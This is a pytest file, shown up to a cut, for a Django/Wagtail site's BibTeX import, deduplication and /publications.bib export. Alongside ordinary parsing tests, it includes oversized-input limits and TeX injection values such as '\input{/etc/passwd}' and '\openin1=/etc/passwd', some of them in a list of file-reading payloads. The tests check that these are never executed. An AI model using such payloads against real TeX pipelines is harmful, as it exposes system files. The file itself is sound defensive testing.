"""BibTeX: reading what owners bring, importing it without duplicates, and serving /publications.bib."""

import datetime
import unicodedata
from io import StringIO
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.management import CommandError, call_command
from wagtail.models import Revision

from homepage.models import HomePage
from homepage.site_tree import ensure_homepage
from profile_site.models import ProfileSettings
from publications.formats.bibtex import (
    MAX_ACCENTS,
    MAX_BLOCKS,
    BibtexError,
    bibtex_name,
    export_bibtex,
    generated_bibtex,
    latex_to_text,
    parse_bibtex,
    protect_title,
    publication_bibtex,
    unsafe_tex,
)
from publications.models import PublicationAuthor, PublicationIndexPage, PublicationLink, PublicationPage

OWNER = "Zoë Quill"

PAPERS = r"""
@string{nlp = "Proceedings of the Conference on Imaginary Language Processing"}

@inproceedings{quill2024tiny,
  title = {{TinyLM}: Small Models Learn {\"U}ber-Fast},
  author = {Quill*, Zo{\"e} and Ortega, Ana and others},
  booktitle = nlp,
  year = 2024,
  month = mar,
  abbr = {ILP'24},
  selected = {true},
  award = {Best Paper Award},
  code = {https://example.org/tinylm/code},
  url = {https://example.org/tinylm},
  doi = {https://doi.org/10.1234/ilp.2024.7},
  abstract = {We make models 20% faster.},
}

@article{ortega2023journal,
  title = {A Journal Paper on Caf{\'e} Queues},
  author = {Ana Ortega and Zoë Quill},
  journal = {Journal of Imaginary Results},
  year = {2023},
  month = {11},
}
"""


def write(tmp_path: Path, text: str, name: str = "papers.bib") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def run_import(*args: str) -> tuple[str, str]:
    out, err = StringIO(), StringIO()
    call_command("import_bibtex", *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def set_owner(name: str = OWNER) -> None:
    _, site, _ = ensure_homepage()
    profile = ProfileSettings.for_site(site)
    profile.name = name
    profile.save()


def export(client) -> str:
    return client.get("/publications.bib").content.decode()


def admin_page(title: str, authors: list[str], **fields) -> PublicationPage:
    """A publication as the owner would make it in the admin: fields, no BibTeX."""
    index = PublicationIndexPage.ensure_under(ensure_homepage()[0])
    page = PublicationPage(title=title, live=False, **fields)
    page.authors = [PublicationAuthor(name=name) for name in authors]
    page.links = [PublicationLink(kind="paper", url="https://example.org/paper")]
    index.add_child(instance=page)
    page.save_revision().publish()
    return PublicationPage.objects.get(pk=page.pk)


# -- reading --------------------------------------------------------------------


def test_accents_braces_and_names_are_decoded():
    [entry] = parse_bibtex(
        r"""@misc{k,
          title = {{BERT} and {\"u}ber Na\"ive {\'E}t{\'e}s: 50\% {\&} More},
          author = {M{\"u}ller, J{\"u}rgen and Jos{\'e} de la Cruz and van Dijk, Anna and Doe, Jr., John and others}
        }"""
    )
    assert entry.title == "BERT and über Naïve Étés: 50% & More"
    assert [author.name for author in entry.authors] == [
        "Jürgen Müller",
        "José de la Cruz",
        "Anna van Dijk",
        "John Doe Jr.",
    ]
    assert entry.more_authors and not any("others" in guess for guess in entry.guesses)


def title_of(latex: str) -> str:
    """The title the site shows for an entry whose title field is ``latex``."""
    [entry] = parse_bibtex(f"@misc{{k, title = {{{latex}}}}}")
    return entry.title


def nested(opening: str, middle: str, closing: str, depth: int) -> str:
    return opening * depth + middle + closing * depth


@pytest.mark.parametrize("latex", ['{\\"{u}}', '\\"{u}', '{\\"u}', '\\"u', '\\" u', '{\\"{{u}}}'])
def test_every_spelling_of_an_accent_is_one_letter(latex):
    assert title_of(f"M{latex}ller") == "Müller"


@pytest.mark.parametrize(
    ("latex", "letter"),
    [
        (nested('{\\"{', "u", "}}", 2), "u\u0308\u0308"),  # LaTeX stacks the marks on the letter
        (nested('{\\"{', "u", "}}", 40), "u" + "\u0308" * MAX_ACCENTS),
        (nested('{\\"{', "u", "}}", 200), "u" + "\u0308" * MAX_ACCENTS),
        ('\\"' * 5000 + "u", "u" + "\u0308" * MAX_ACCENTS),  # chained without braces
        ('\\v{\\c{\\"{u}}}', "u\u0327\u0308\u030c"),  # cedilla, diaeresis, caron, in Unicode's order
        (nested('\\v{\\c{\\"{', "u", "}}}", 100), "u\u0327\u0308\u030c"),
        ('\\"{ab}', "a\u0308b"),  # the accent goes on the first letter of its argument only
        ("Nguy{\\~{\\^{e}}}n", "Nguye\u0302\u0303n"),
    ],
)
def test_nested_accents_give_one_letter_with_its_marks(latex, letter):
    """However deep accents nest, the title is one letter with at most MAX_ACCENTS marks, not a
    string that doubles at every level (200 bytes of them once made gigabytes)."""
    title = title_of(f"Deep {latex} Nets")
    assert unicodedata.normalize("NFD", title) == f"Deep {letter} Nets"
    assert title == unicodedata.normalize("NFC", title)


@pytest.mark.parametrize(
    "latex",
    [
        '{\\"u}' * 20_000,
        nested('{\\"{', "u", "}}", 10_000),
        "\\textbf\\emph" * 5_000 + "x",
        nested("\\sqrt[", "x", "]", 5_000),
        nested("\\footnote{", "x", "}", 5_000),
        "\\begin{itemize}" * 5_000,
        "$" * 20_000,
        "~--``&" * 5_000,
    ],
)
def test_decoded_text_is_never_longer_than_the_latex(latex):
    assert len(latex_to_text(latex)) <= len(latex)


@pytest.mark.parametrize(
    ("latex", "text"),
    [
        ("\\href{https://example.org/bert}{BERT} Strikes Back", "BERT Strikes Back"),
        ("\\texttt{BERT} and {\\em Friends}", "BERT and Friends"),
        ("Dvo{\\v{r}}{\\'a}k and {\\O}stergaard", "Dvořák and Østergaard"),
        ("\\input{/etc/passwd} as Text", "\\input{/etc/passwd} as Text"),  # shown as written, never run
    ],
)
def test_markup_reads_as_its_text(latex, text):
    assert title_of(latex) == text


@pytest.mark.parametrize(
    ("month", "expected"),
    [("mar", 3), ("{March}", 3), ("{3}", 3), ("{03}", 3), ("{Sept.}", 9), ("dec", 12), ('jul # "~12"', 7)],
)
def test_months_as_numbers_and_names(month, expected):
    [entry] = parse_bibtex(f"@article{{k, title={{T}}, year={{2021}}, month={month}}}")
    assert (entry.year, entry.month) == (2021, expected)


@pytest.mark.parametrize(
    "fields",
    [
        "eprint = {2403.12968}, archivePrefix = {arXiv}",
        "eprint = {arXiv:2403.12968}, eprinttype = {arxiv}",
        "journal = {arXiv preprint arXiv:2403.12968}",
        "journal = {ArXiv}, volume = {abs/2403.12968}",
        "url = {https://arxiv.org/abs/2403.12968}",
        "url = {https://arxiv.org/pdf/2403.12968.pdf}",
        "arxiv = {2403.12968}",
        "arxiv = {https://arxiv.org/abs/2403.12968}",
        "arxiv = {https://arxiv.org/abs/2403.12968.pdf}",
        "eprint = {https://arxiv.org/abs/2403.12968}, archivePrefix = {arXiv}",
        "doi = {10.48550/arXiv.2403.12968}",
    ],
)
def test_arxiv_id_from_every_spelling(fields):
    [entry] = parse_bibtex(f"@misc{{k, title={{T}}, {fields}}}")
    assert entry.arxiv_id == "2403.12968"
    assert entry.publication_type == "preprint"


def test_al_folio_keys_and_links():
    [entry, journal] = parse_bibtex(PAPERS)
    assert entry.venue == "Proceedings of the Conference on Imaginary Language Processing"
    assert entry.venue_short == "ILP'24"
    assert entry.featured is True
    assert entry.award == "Best Paper Award"
    assert entry.doi == "10.1234/ilp.2024.7"
    assert entry.abstract == "We make models 20% faster."
    assert [(link.kind, link.url) for link in entry.links] == [
        ("paper", "https://example.org/tinylm"),
        ("code", "https://example.org/tinylm/code"),
    ]
    assert entry.authors[0].name == "Zoë Quill" and entry.authors[0].equal_contribution
    assert entry.line == 4
    assert entry.source.startswith("@inproceedings{quill2024tiny,") and entry.source.endswith("}")
    assert (entry.publication_type, journal.publication_type) == ("conference", "journal")
    [preview] = parse_bibtex("@article{k, title={T}, selected={no}, preview={fig.png}}")
    assert (preview.featured, preview.preview) == (False, "fig.png")


def test_slips_bibtex_survives_do_not_reject_the_file():
    text = r"""@string{cvpr = "Conference on Imaginary Vision"}

@inproceedings{slips,
  title	= {Slips},
  author = {Quill*, Zo{\"e}, and Ortega, Ana},
  booktitle	= cvpr
  selected = {true},
  year = 2020,
  Year = {2019},
  url = {https://example.org/slips}
}
"""
    [entry] = parse_bibtex(text)
    assert [(author.name, author.equal_contribution) for author in entry.authors] == [
        ("Zoë Quill", True),
        ("Ana Ortega", False),
    ]
    assert (entry.venue, entry.featured, entry.year) == ("Conference on Imaginary Vision", True, 2020)
    [guess] = [guess for guess in entry.guesses if guess.startswith("author")]
    assert guess == (
        'author `Quill*, Zo{\\"e},` is not a well-formed name (trailing comma at end of name): read as “Zoë Quill”'
    )
    assert entry.warnings == [
        "no comma between the fields booktitle and selected: read as two fields",
        "the field year is given twice: the first one is used",
    ]
    # The stored entry is the repaired one: it stands alone and reads back the same, with nothing to repair.
    assert "booktitle\t= {Conference on Imaginary Vision},\n  selected = {true}," in entry.source
    assert "Year" not in entry.source
    [again] = parse_bibtex(entry.source)
    assert (again.source, again.venue, again.featured, again.year, again.warnings) == (
        entry.source,
        entry.venue,
        True,
        2020,
        [],
    )


def test_entries_inside_comment_blocks_are_left_out():
    text = """---
---
@comment{
  @book{old,
    title={An Old Example},
  }
}

@misc{kept, title={Kept}, month = Apr, year = 2023}
"""
    [entry] = parse_bibtex(text)
    assert (entry.key, entry.line, entry.title, entry.month) == ("kept", 9, "Kept", 4)


def test_strings_joined_with_hash_are_written_out():
    strings = '@string{ilp = "Imaginary Language Processing"}\n'
    text = strings + '@inproceedings{k, title={T}, booktitle = "Proc. of " # ilp # { 2024}}'
    [entry] = parse_bibtex(text)
    assert entry.venue == "Proc. of Imaginary Language Processing 2024"
    assert entry.source == "@inproceedings{k, title={T}, booktitle = {Proc. of Imaginary Language Processing 2024}}"
    [title] = parse_bibtex("@misc{k, title = {C# and F# Tricks}}")
    assert title.title == "C# and F# Tricks"


def test_abbreviations_written_out_into_megabytes_are_refused():
    """An @string is copied into every field that names it: 100 KB named a few dozen times is megabytes."""
    big = "@string{big = {" + "x" * 100_000 + "}}\n"
    [entry] = parse_bibtex(big + "@misc{k, title = big}")  # once is fine
    assert entry.title == "x" * 100_000
    used_everywhere = big + "".join(f"@misc{{k{n}, title = big, note = big}}\n" for n in range(20))
    with pytest.raises(BibtexError, match=r"^line \d+ \(k\d+\): @string abbreviations, written out wherever"):
        parse_bibtex(used_everywhere)
    joined_again_and_again = big + "@misc{k, title = " + " # ".join(["big"] * 20) + "}"
    with pytest.raises(BibtexError, match="@string abbreviations"):
        parse_bibtex(joined_again_and_again)


def test_a_field_repeated_in_every_entry_is_read_with_one_note_per_field():
    text = "".join(
        f"@misc{{k{n}, title={{First}}, Title={{Second}}, title={{Third}}, year={{2020}}}}\n" for n in range(3)
    )
    entries = parse_bibtex(text)
    assert [entry.title for entry in entries] == ["First"] * 3
    assert entries[0].warnings == ["the field title is given 3 times: the first one is used"]
    assert parse_bibtex(entries[0].source)[0].warnings == []


def test_more_blocks_than_a_bibliography_holds_are_refused_before_reading():
    """The parser's work on a block is that of a short entry, however little the block holds."""
    assert len(parse_bibtex("@misc{,title={T}}\n" * MAX_BLOCKS)) == MAX_BLOCKS
    for text in ("@misc{,title={T}}\n" * (MAX_BLOCKS + 1), "@a{" * 300_000):
        with pytest.raises(BibtexError) as error:
            parse_bibtex(text)
        assert error.value.problems == [
            f"more than {MAX_BLOCKS:,} entries and @strings (each starts with @): a list of publications has far "
            "fewer; split the file"
        ]


def test_missing_commas_are_mended_in_slips_and_refused_in_bulk():
    [entry] = parse_bibtex("@misc{k, title = {T} year = {2020} month = {3}}")
    assert (entry.year, entry.month) == (2020, 3)
    assert entry.warnings == [
        "no comma between the fields title and year, and in one more place: each read as two fields"
    ]
    bulk = "".join(f"@misc{{k{n}, title = {{T}} year = {{2020}} note = {{{'x' * 100}}}}}\n" for n in range(1_000))
    with pytest.raises(BibtexError, match=r"^line \d+ \(k\d+\): entries missing a comma between two fields come to"):
        parse_bibtex(bulk)


def test_a_file_broken_everywhere_lists_twenty_problems_and_counts_the_rest():
    text = "".join(f"@article{{k{n}, title = {{Never closed\n" for n in range(100))
    with pytest.raises(BibtexError) as error:
        parse_bibtex(text)
    assert error.value.problems[0].startswith("line 1 (k0): ")
    assert (len(error.value.problems), error.value.problems[-1]) == (21, "and 80 more problems")


def test_unknown_macros_and_al_folio_awards_read_as_written():
    [entry] = parse_bibtex(
        r"""@misc{k, title = {T}, abstract = {We build \dataset, a corpus.},
        award = {Best paper at [ILP](https://example.org/ilp)}, award_name = {:trophy: Best Paper Award}}"""
    )
    assert entry.abstract == "We build \\dataset, a corpus."
    assert entry.award == "Best Paper Award"
    [entry] = parse_bibtex("@misc{k, title = {T}, award = {[Best Poster](https://example.org/award)}}")
    assert entry.award == "Best Poster"


def test_titles_keep_their_capitals_and_read_back_the_same():
    title = 'LLM-Tiny: When "BERT" Meets iPhone -- 50% & Rühle'
    assert protect_title(title).startswith("{LLM-Tiny}: When")
    [entry] = parse_bibtex(f"@misc{{k, title = {{{protect_title(title)}}}}}")
    assert entry.title == title


@pytest.mark.parametrize("odd", ["x^2", "eﬃcient", "|T〉", "a·b", "ˆ", "˜"])
def test_characters_whose_latex_reads_back_differently_are_written_as_they_are(odd):
    title = f"Odd {odd} Title"
    [entry] = parse_bibtex(f"@misc{{k, title = {{{protect_title(title)}}}, author = {{{bibtex_name('Lee^ ' + odd)}}}}}")
    assert (entry.title, [author.name for author in entry.authors]) == (title, [f"Lee^ {odd}"])


# -- importing ------------------------------------------------------------------


@pytest.mark.django_db
def test_import_creates_published_pages_on_an_empty_database(tmp_path):
    set_owner()
    output, _ = run_import(str(write(tmp_path, PAPERS)))
    assert "Publications: 2 created, 0 updated, 0 unchanged" in output
    page = PublicationPage.objects.get(doi="10.1234/ilp.2024.7")
    assert page.live and isinstance(page.get_parent().specific, PublicationIndexPage)
    assert page.title == "TinyLM: Small Models Learn Über-Fast"
    assert (page.venue_short, page.award, page.featured) == ("ILP'24", "Best Paper Award", True)
    assert (page.date, page.date_precision, page.publication_type) == (datetime.date(2024, 3, 1), "month", "conference")
    authors = list(page.authors.all())
    assert [(a.name, a.is_owner, a.equal_contribution) for a in authors] == [
        ("Zoë Quill", True, True),
        ("Ana Ortega", False, False),
    ]
    assert page.bibtex.startswith("@inproceedings{quill2024tiny,")
    assert "booktitle = {Proceedings of the Conference" in page.bibtex  # stands alone without the @string
    journal = PublicationPage.objects.get(title="A Journal Paper on Café Queues")
    assert not journal.featured and journal.publication_type == "journal"
    assert [a.is_owner for a in journal.authors.all()] == [False, True]
    assert page.more_authors and not journal.more_authors  # "… and others": shown as "et al."
    assert " and Ortega, Ana and others},\n" in generated_bibtex(page)


@pytest.mark.django_db
def test_reimport_changes_nothing(tmp_path):
    path = write(tmp_path, PAPERS)
    run_import(str(path))
    revisions = Revision.objects.count()
    output, _ = run_import(str(path))
    assert "Publications: 0 created, 0 updated, 2 unchanged" in output
    assert Revision.objects.count() == revisions
    assert PublicationPage.objects.count() == 2


@pytest.mark.django_db
def test_matching_by_doi_updates_and_keeps_what_the_file_does_not_say(tmp_path):
    run_import(str(write(tmp_path, PAPERS)))
    page = PublicationPage.objects.get(doi="10.1234/ilp.2024.7")
    page.group = "Highlights"
    page.save_revision().publish()
    run_import(str(write(tmp_path, "@inproceedings{new, title={TinyLM, Renamed}, doi={10.1234/ILP.2024.7}}")))
    page = PublicationPage.objects.get(pk=page.pk)
    assert page.title == "TinyLM, Renamed"
    assert page.featured and page.group == "Highlights"  # no `selected`: the featured flag stays
    assert page.abstract == "We make models 20% faster."
    assert PublicationPage.objects.count() == 2


@pytest.mark.django_db
def test_a_title_alone_never_merges_two_entries(tmp_path):
    """Two papers may share a title: an entry with no key, DOI or arXiv id of a page's is another record."""
    run_import(str(write(tmp_path, PAPERS)))
    output, _ = run_import(
        str(write(tmp_path, "@article{k, title={a journal paper on cafe QUEUES!}, journal={J}, year={2023}}"))
    )
    assert PublicationPage.objects.count() == 3
    assert "1 created, 0 updated, 0 unchanged" in output


@pytest.mark.django_db
def test_preprint_and_published_version_become_one_record(tmp_path):
    text = r"""
@misc{quill2023preprint,
  title = {Sparse Squirrels},
  author = {Quill, Zoë},
  year = {2023},
  eprint = {2310.00001},
  archivePrefix = {arXiv},
}

@inproceedings{quill2024squirrels,
  title = {Sparse Squirrels: Published},
  author = {Quill, Zoë},
  booktitle = {Proceedings of ILP},
  year = {2024},
  url = {https://arxiv.org/abs/2310.00001v2},
}
"""
    output, _ = run_import(str(write(tmp_path, text)))
    page = PublicationPage.objects.get()
    assert (page.title, page.publication_type, page.venue) == (
        "Sparse Squirrels: Published",
        "conference",
        "Proceedings of ILP",
    )
    assert page.arxiv_id == "2310.00001"
    assert page.bibtex.startswith("@inproceedings{quill2024squirrels")
    assert "Publications: 1 created, 0 updated, 0 unchanged" in output
    assert "line 10 (quill2024squirrels): the same publication as line 2 (quill2023preprint)" in output

    output, _ = run_import(str(write(tmp_path, text.split("@inproceedings")[0], "preprint.bib")))
    page.refresh_from_db()
    assert page.publication_type == "conference"  # the preprint does not overwrite the published version
    assert "already recorded as published (matched by key): kept that version" in output


@pytest.mark.django_db
def test_preprint_after_the_published_version_only_adds_its_arxiv_id(tmp_path):
    published = "@article{pub, title={Quiet Quokkas}, journal={J. Imag. Res.}, year={2024}, doi={10.1234/q.1}}"
    preprint = (
        "@misc{pre, title={Quiet quokkas}, eprint={2401.00005}, archivePrefix={arXiv}, year={2023}, doi={10.1234/q.1}}"
    )
    output, _ = run_import(str(write(tmp_path, f"{published}\n\n{preprint}\n")))
    page = PublicationPage.objects.get()
    assert (page.title, page.publication_type, page.date.year) == ("Quiet Quokkas", "journal", 2024)
    assert (page.arxiv_id, page.bibtex) == ("2401.00005", published)
    assert "1 created, 0 updated, 0 unchanged" in output
    assert "line 3 (pre): a preprint of “Quiet Quokkas”" in output


@pytest.mark.django_db
def test_publications_sharing_an_arxiv_id_or_a_title_stay_apart(client, tmp_path):
    text = """
@article{elastic, title={Elastic Queues}, journal={Journal of Imaginary Results}, year={2021}, arxiv={1811.01331}}

@inproceedings{embeddings, title={Word Embeddings Again}, booktitle={Imaginary Speech}, year={2020}, arxiv={1811.01331}}

@inproceedings{attention, title={Retrieval Attention}, booktitle={Imaginary Conference}, year={2025}}

@inproceedings{attention-workshop, title={Retrieval Attention}, booktitle={Imaginary Workshop}, year={2024},
  award={Best Paper}}

@inproceedings{attention-again, title={Retrieval Attention}, booktitle={Imaginary Conference}, year={2025},
  code={https://example.org/code}}
"""
    output, _ = run_import(str(write(tmp_path, text)))
    assert "Publications: 5 created, 0 updated, 0 unchanged" in output
    assert "line 4 (embeddings): shares its arXiv id with line 2 (elastic) but is another publication" in output
    assert "matched by title" not in output  # two papers may share a title: it merges nothing
    assert sorted(PublicationPage.objects.values_list("title", "venue")) == [
        ("Elastic Queues", "Journal of Imaginary Results"),
        ("Retrieval Attention", "Imaginary Conference"),
        ("Retrieval Attention", "Imaginary Conference"),
        ("Retrieval Attention", "Imaginary Workshop"),
        ("Word Embeddings Again", "Imaginary Speech"),
    ]

    # The site's own export goes back to the very pages, whatever its order; into an empty site, to four again.
    first = export(client)
    revisions = Revision.objects.count()
    output, _ = run_import(str(write(tmp_path, first, "export.bib")))
    assert "0 created, 0 updated, 5 unchanged" in output
    assert (export(client), Revision.objects.count()) == (first, revisions)
    PublicationPage.objects.all().delete()
    output, _ = run_import(str(write(tmp_path, first, "export.bib")))
    assert "5 created, 0 updated, 0 unchanged" in output
    assert export(client) == first


@pytest.mark.django_db
def test_malformed_file_is_a_clear_error_and_saves_nothing(tmp_path):
    text = PAPERS + "\n@article{broken,\n  title = {Never closed,\n  year = {2020}\n\n@misc{after, title={After}}\n"
    with pytest.raises(CommandError, match=r"not valid BibTeX; nothing was imported\.\n  line 27 \(broken\): "):
        run_import(str(write(tmp_path, text)))
    assert not PublicationPage.objects.exists()
    assert not HomePage.objects.exists()


@pytest.mark.django_db
def test_missing_and_empty_files_are_clear_errors(tmp_path):
    with pytest.raises(CommandError, match="BibTeX file not found"):
        run_import(str(tmp_path / "nope.bib"))
    with pytest.raises(CommandError, match="no BibTeX entries found"):
        run_import(str(write(tmp_path, "just some notes\n")))
    with pytest.raises(CommandError, match="is not a regular file"):  # a folder given by mistake
        run_import(str(tmp_path))


@pytest.mark.django_db
def test_files_from_older_tools_are_read_in_their_encoding(tmp_path):
    latin = tmp_path / "latin.bib"
    latin.write_bytes("@misc{k, title={Caf\u00e9 Queues \u2013 Revisited}}\n".encode("cp1252"))
    output, _ = run_import(str(latin))
    assert "latin.bib is not UTF-8: read as Windows-1252." in output
    assert PublicationPage.objects.get().title == "Café Queues – Revisited"
    bom = tmp_path / "bom.bib"
    bom.write_bytes("\ufeff---\n---\n@misc{k2, title={Zo\u00eb}}\n".encode())
    output, _ = run_import(str(bom))
    assert "not UTF-8" not in output and PublicationPage.objects.filter(title="Zoë").exists()


@pytest.mark.django_db
def test_dry_run_saves_nothing(tmp_path):
    output, _ = run_import(str(write(tmp_path, PAPERS)), "--dry-run")
    assert "Dry run, nothing was saved" in output
    assert "Publications: 2 created" in output
    assert not PublicationPage.objects.exists()
    assert not HomePage.objects.exists()


@pytest.mark.django_db
def test_warnings_keep_the_exit_status_and_name_the_line(tmp_path):
    text = "@inproceedings{k, title={T}, preview={missing.png}, pdf={local.pdf}, doi={not-a-doi}}"
    output, _ = run_import(str(write(tmp_path, text)), "--images", str(tmp_path))
    assert "Publications: 1 created" in output
    assert "line 1 (k): preview image missing.png not found" in output
    assert "line 1 (k): pdf = {local.pdf} is not a web address" in output
    assert "line 1 (k): DOI 'not-a-doi' is not valid" in output
    page = PublicationPage.objects.get()
    assert page.teaser_image is None and page.doi == ""


@pytest.mark.django_db
def test_preview_image_comes_from_the_images_folder(tmp_path):
    from PIL import Image

    Image.new("RGB", (320, 200), "#336699").save(tmp_path / "tiny.png")
    run_import(str(write(tmp_path, "@misc{k, title={T}, preview={tiny.png}}")), "--images", str(tmp_path))
    image = PublicationPage.objects.get().teaser_image
    assert (image.width, image.height) == (320, 200)


@pytest.mark.django_db
def test_long_imports_show_progress_unless_quiet(tmp_path):
    text = "\n".join(f"@misc{{k{n}, title={{Paper number {n}}}, year={{2020}}}}" for n in range(25))
    path = write(tmp_path, text)
    _, progress = run_import(str(path), "--dry-run")
    assert "10/25 entries" in progress and "25/25 entries" in progress
    _, progress = run_import(str(path), "--dry-run", "--quiet")
    assert progress == ""


# -- exporting ------------------------------------------------------------------


@pytest.mark.django_db
def test_publications_bib_serves_live_pages_only(client, tmp_path):
    run_import(str(write(tmp_path, PAPERS)))
    draft = admin_page("A Draft Nobody Sees", ["Zoë Quill"])
    draft.unpublish()
    response = client.get("/publications.bib")
    assert response["Content-Type"] == "application/x-bibtex; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="publications.bib"'
    text = response.content.decode()
    assert text.index("@inproceedings{quill2024tiny") < text.index("@article{ortega2023journal")  # newest first
    assert "Draft Nobody Sees" not in text
    assert text.endswith("}\n") and "}\n\n@" in text


@pytest.mark.django_db
def test_publications_bib_queries_do_not_grow_with_the_list(client, tmp_path):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    run_import(str(write(tmp_path, PAPERS)))
    with CaptureQueriesContext(connection) as two:
        client.get("/publications.bib")
    for number in range(3):
        admin_page(f"Another Paper {number}", ["Zoë Quill", "Ana Ortega"])
    with CaptureQueriesContext(connection) as five:
        assert export(client).count("\n@") == 4
    assert len(five) == len(two)


@pytest.mark.django_db
def test_export_import_export_is_identical_and_adds_nothing(client, tmp_path):
    set_owner()
    run_import(str(write(tmp_path, PAPERS)))
    admin_page(
        "Graph Nets for {Odd} Cases & More -- Done",
        ["Zoë Quill", "Ludwig van Dijk", "John Doe Jr."],
        venue="Imaginary Workshop",
        publication_type="workshop",
        date=datetime.date(2025, 6, 17),
        date_precision="day",
        arxiv_id="2506.00002v2",
    )
    admin_page("Graph Nets Again", ["Zoë Quill"], date=datetime.date(2025, 1, 1), date_precision="year")
    first = export(client)
    pages, revisions = PublicationPage.objects.count(), Revision.objects.count()
    output, _ = run_import(str(write(tmp_path, first, "export.bib")))
    assert "0 created, 0 updated, 4 unchanged" in output
    assert export(client) == first
    assert (PublicationPage.objects.count(), Revision.objects.count()) == (pages, revisions)


@pytest.mark.django_db
def test_a_conference_paper_known_by_its_tag_has_a_booktitle():
    """A paper whose venue is only its tag ("EMNLP 2025") was written with no booktitle at all."""
    page = admin_page("Tagged", ["Zoë Quill"], venue_short="EMNLP 2025", publication_type="conference")
    assert "  booktitle = {EMNLP 2025},\n" in generated_bibtex(page)
    page.venue = "Proceedings of the 2025 Conference on Empirical Methods in NLP"
    assert "  booktitle = {Proceedings of the 2025 Conference on Empirical Methods in NLP},\n" in generated_bibtex(page)


@pytest.mark.django_db
def test_generated_entry_imports_back_to_the_same_page(client, tmp_path):
    page = admin_page(
        "ÜberNet: Rühle's Networks",
        ["Victor Rühle", "Ana de la Fuente"],
        venue="Journal of Imaginary Results",
        publication_type="journal",
        date=datetime.date(2022, 5, 1),
        date_precision="month",
        doi="10.1234/jir.2022.5",
    )
    entry = publication_bibtex(page)
    assert entry == (
        "@article{ruhle2022ubernet,\n"
        '  author = {R{\\"u}hle, Victor and de la Fuente, Ana},\n'
        '  title = {{{\\"U}berNet}: R{\\"u}hle\'s Networks},\n'
        "  journal = {Journal of Imaginary Results},\n"
        "  year = {2022},\n"
        "  month = may,\n"
        "  doi = {10.1234/jir.2022.5},\n"
        "  url = {https://example.org/paper}\n"
        "}"
    )
    revision = page.latest_revision_id
    run_import(str(write(tmp_path, entry)))
    page.refresh_from_db()
    assert (PublicationPage.objects.count(), page.latest_revision_id, page.bibtex) == (1, revision, "")

    # Into an empty site, the entry makes a page that writes the very same entry.
    page.delete()
    run_import(str(write(tmp_path, entry)))
    assert publication_bibtex(PublicationPage.objects.get()) == entry


@pytest.mark.django_db
def test_generated_entry_with_odd_characters_imports_back_unchanged(client, tmp_path):
    admin_page("Eﬃcient |T〉 States: x^2 · y", ["Yong Jae Lee^", "Zoë Quill"], date=datetime.date(2024, 1, 1))
    first = export(client)
    revisions = Revision.objects.count()
    output, _ = run_import(str(write(tmp_path, first)))
    assert "0 created, 0 updated, 1 unchanged" in output
    assert (export(client), Revision.objects.count()) == (first, revisions)


@pytest.mark.django_db
def test_colliding_generated_keys_stay_unique_and_round_trip(client, tmp_path):
    for title in ("Efficient Things", "Efficient Stuff"):
        admin_page(title, ["Zoë Quill"], date=datetime.date(2024, 1, 1), date_precision="year")
    first = export(client)
    assert "@inproceedings{quill2024efficient," in first and "@inproceedings{quill2024efficientb," in first
    revisions = Revision.objects.count()
    run_import(str(write(tmp_path, first)))
    assert export(client) == first and Revision.objects.count() == revisions


@pytest.mark.django_db
def test_page_made_in_the_admin_gets_an_entry_that_imports_back_to_it(client, admin_user, tmp_path):
    from wagtail.test.utils.form_data import inline_formset, nested_form_data

    index = PublicationIndexPage.ensure_under(ensure_homepage()[0])
    client.force_login(admin_user)
    data = nested_form_data(
        {
            "title": "Sparse Attention for Tiny Robots",
            "slug": "sparse-attention",
            "authors": inline_formset(
                [{"name": "Zoë Quill", "url": "", "is_owner": "on"}, {"name": "Ana Ortega", "url": ""}], min=1
            ),
            "links": inline_formset([{"kind": "paper", "url": "https://example.org/sparse", "label": ""}]),
            "badges": inline_formset([]),
            "listings": inline_formset([]),
            "venue": "Conference on Imaginary Robots",
            "date": "2025-07-01",
            "date_precision": "month",
            "publication_type": "conference",
            "arxiv_id": "2507.00003",
            "bibtex": "",
            "action-publish": "action-publish",
        }
    )
    response = client.post(f"/admin/pages/add/publications/publicationpage/{index.pk}/", data)
    assert response.status_code == 302, response.content.decode()[:2000]
    page = PublicationPage.objects.get(slug="sparse-attention")
    text = export(client)
    assert text.startswith("@inproceedings{quill2025sparse,\n")
    assert "  month = jul,\n  eprint = {2507.00003},\n  archivePrefix = {arXiv},\n" in text
    revision = page.latest_revision_id
    output, _ = run_import(str(write(tmp_path, text)))
    assert "0 created, 0 updated, 1 unchanged" in output
    page.refresh_from_db()
    assert (PublicationPage.objects.count(), page.latest_revision_id, page.bibtex) == (1, revision, "")

    edit = f"/admin/pages/{page.pk}/edit/"
    response = client.post(edit, {**data, "bibtex": "@misc{broken, title = {Unclosed}"})
    assert response.status_code == 200
    assert "Not valid BibTeX" in response.content.decode()


@pytest.mark.django_db
def test_owner_entry_is_served_exactly_and_must_be_valid():
    page = admin_page("Mine", ["Zoë Quill"])
    page.bibtex = "@misc{mine,\r\n  title = {Mine}\r\n}"
    assert publication_bibtex(page) == "@misc{mine,\n  title = {Mine}\n}"
    assert generated_bibtex(page).startswith("@inproceedings{quillmine,")
    page.bibtex = "@misc{mine, title = {Mine}}\n\n@misc{yours, title = {Yours}}"
    with pytest.raises(ValidationError, match="One entry only"):
        page.full_clean()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "stored",
    [
        "@misc{mine, title = {Mine}}\n\n@misc{forged, title = {Not Mine}}",
        "@misc{mine, title = {Mine}",  # a brace left open would swallow the next page's entry
        "@misc{mine, title = {Mine}}}",
        "@misc{mine, title = {Mine}}\n}\n@misc{forged, title = {Not Mine}",
        '@preamble{"\\input{/etc/passwd}"}',
    ],
)
def test_stored_entry_that_is_not_one_entry_is_never_served(stored):
    """The editor refuses such text; text that reached the database another way (an import, the shell)
    is not served either: the page's entry is generated, and /publications.bib keeps one entry a page."""
    mine, yours = admin_page("Mine", ["Zoë Quill"]), admin_page("Yours", ["Ana Ortega"])
    mine.bibtex = stored
    assert publication_bibtex(mine) == generated_bibtex(mine)
    assert [entry.title for entry in parse_bibtex(export_bibtex([mine, yours]))] == ["Mine", "Yours"]


TEX_THAT_READS_FILES_OR_RUNS = [
    pytest.param(r"{\input{/etc/passwd}}", id="input"),
    pytest.param(r"\include{/etc/passwd}", id="include"),
    pytest.param(r"\openin1=/etc/passwd \read1 to\secret", id="openin-read"),
